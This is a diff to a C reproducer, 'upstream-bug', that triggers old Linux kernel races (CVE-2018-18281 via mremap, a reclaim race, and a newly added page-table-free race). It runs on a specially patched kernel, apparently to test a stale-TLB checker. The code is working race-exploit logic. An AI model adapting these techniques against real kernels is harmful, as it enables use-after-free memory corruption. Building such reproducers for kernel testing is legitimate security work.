@@ -1,15 +1,18 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
 /*
- * upstream-bug: uses the window of two old bugs of Linux
+ * upstream-bug: uses the window of three old bugs of Linux
  *
  *   upstream-bug mremap PATH    a page is truncated while another thread moves
  *                               its mapping (CVE-2018-18281)
  *   upstream-bug reclaim PATH   a page is unmapped while another thread
  *                               reclaims it (before commit 3ea277194daa)
  *
+ *   upstream-bug tables PATH    a page table is freed while the CPU of another
+ *                               thread may walk it (before commit d86564a2f085)
+ *
  * Three threads, each on a CPU of its own: the victim reads a page all the
  * time, the second opens the window, the third does what must not happen in
- * it. The kernel has to hold the window open (upstream-bugs.patch). PATH is a
+ * it; of tables that is what the second has done already. The kernel has to hold the window open (upstream-bugs.patch). PATH is a
  * file to be made, on a disk. Prints the address and what the victim read.
  *
  * Exit status: 0 the attack was made, 1 it could not be made, 2 wrong use.
@@ -28,6 +31,7 @@
 #include <string.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
+#include <sys/prctl.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
@@ -40,6 +44,8 @@
 #define BYTES		(16 * PAGE)
 /* What one page table maps. */
 #define TABLE		(512 * PAGE)
+/* Lower than all else by this much a mapping has a page table of its own. */
+#define ALONE		(64 * TABLE)
 #define OWN		0x5a5a5a5a5a5a5a5aull
 #define IN_WINDOW_US	200000
 #define AFTER_US	500000
@@ -135,6 +141,17 @@ static void *reclaim(void *unused)
 	return NULL;
 }
 
+static void *unmap_with_table(void *unused)
+{
+	(void)unused;
+	pin(SECOND_CPU);
+	/* The kernel knows by this name for whom it has no memory. */
+	prctl(PR_SET_NAME, "upstream-tables");
+	atomic_store(&opening, true);
+	MUST(munmap(page, bytes));
+	return NULL;
+}
+
 /* A control group of our own: what it reclaims is what we have touched since. */
 static void enter_group(void)
 {
@@ -170,6 +187,7 @@ static void truncate_it(void)
 	size_t i, filled = 64 << 20;
 	char *other;
 
+	usleep(IN_WINDOW_US);
 	MUST(ftruncate(file, 0));
 	other = mmap(NULL, filled, PROT_READ | PROT_WRITE,
 		     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
@@ -187,8 +205,11 @@ static void unmap_it(void)
 	tlb_check_arm(page, bytes);
 }
 
-/* Among other mappings, so that munmap() frees no page table, and flushes for it. */
-static char *map_file(void)
+/*
+ * Among other mappings, so that munmap() frees no page table, and flushes for
+ * it; or @alone, so that it does.
+ */
+static char *map_file(bool alone)
 {
 	char *room = mmap(NULL, 2 * TABLE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
 	char *at = (char *)(((unsigned long)room + TABLE) & ~(TABLE - 1)) - TABLE / 2;
@@ -197,6 +218,10 @@ static char *map_file(void)
 		return room;
 	if (at < room)
 		at += TABLE;
+	if (alone) {
+		MUST(munmap(room, 2 * TABLE));
+		at = (char *)((unsigned long)at & ~(TABLE - 1)) - ALONE;
+	}
 	return mmap(at, bytes, PROT_READ, MAP_SHARED | MAP_FIXED, file, 0);
 }
 
@@ -216,14 +241,38 @@ static void make_file(const char *path)
 	MUST(fsync(file));
 }
 
+struct attack {
+	const char *name;
+	size_t bytes;			/* that are mapped */
+	bool alone;			/* in its page table */
+	void *(*open_window)(void *);
+	void (*in_window)(void);
+};
+
+static const struct attack attacks[] = {
+	{ "mremap", BYTES, false, move, truncate_it },
+	{ "reclaim", PAGE, false, reclaim, unmap_it },
+	{ "tables", PAGE, true, unmap_with_table, NULL },
+	{ NULL, 0, false, NULL, NULL }
+};
+
+static const struct attack *find_attack(const char *name)
+{
+	const struct attack *a = attacks;
+
+	while (a->name && strcmp(a->name, name))
+		a++;
+	return a->name ? a : NULL;
+}
+
 int main(int argc, char **argv)
 {
 	struct sigaction action = { .sa_handler = on_fault, .sa_flags = SA_NODEFER };
-	bool moves = argc == 3 && !strcmp(argv[1], "mremap");
+	const struct attack *attack = argc == 3 ? find_attack(argv[1]) : NULL;
 	pthread_t threads[2];
 
-	if (!moves && !(argc == 3 && !strcmp(argv[1], "reclaim"))) {
-		fputs("usage: upstream-bug mremap|reclaim PATH\n", stderr);
+	if (!attack) {
+		fputs("usage: upstream-bug mremap|reclaim|tables PATH\n", stderr);
 		return 2;
 	}
 	if (!tlb_check_present()) {
@@ -232,11 +281,11 @@ int main(int argc, char **argv)
 	}
 	/* New pages wait in lists of a CPU, where only that one can reclaim them. */
 	pin(SECOND_CPU);
-	if (!moves)
+	if (attack->open_window == reclaim)
 		enter_group();
 	make_file(argv[2]);
-	bytes = moves ? BYTES : PAGE;
-	page = map_file();
+	bytes = attack->bytes;
+	page = map_file(attack->alone);
 	if (page == MAP_FAILED) {
 		perror("mmap");
 		return 1;
@@ -249,16 +298,12 @@ int main(int argc, char **argv)
 		return 1;
 	while (!atomic_load(&reads))
 		sched_yield();
-	if (pthread_create(&threads[1], NULL, moves ? move : reclaim, NULL))
+	if (pthread_create(&threads[1], NULL, attack->open_window, NULL))
 		return 1;
 	while (!atomic_load(&opening))
 		sched_yield();
-	if (moves) {
-		usleep(IN_WINDOW_US);
-		truncate_it();
-	} else {
-		unmap_it();
-	}
+	if (attack->in_window)
+		attack->in_window();
 	pthread_join(threads[1], NULL);
 	usleep(AFTER_US);
 	atomic_store(&over, true);
